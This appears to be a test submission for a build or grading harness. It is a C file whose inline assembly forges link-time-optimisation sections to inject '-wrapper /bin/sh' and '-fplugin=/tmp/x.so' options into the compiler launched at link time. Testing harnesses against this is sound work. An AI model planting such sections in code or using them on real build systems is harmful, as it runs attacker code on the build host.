// SPDX-License-Identifier: Apache-2.0
// Submission: carries the sections of link-time optimisation, whose options a linker's plugin hands to a compiler that it starts. They are bytes like others.
// verdict: fail
// fails: address
// skips: listens, get-temp, get-humidity, unknown-command, same-connection, split-command, joined-commands, second-client, client-resets, conversations, healthy
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".string \"'-wrapper' '/bin/sh,-c,exit' '-fplugin=/tmp/x.so'\"\n"
        ".section .gnu.lto_main.1,\"e\",@progbits\n.byte 1,2,3\n.text\n.comm __gnu_lto_slim,1,1\n");

void app_main(void)
{
}
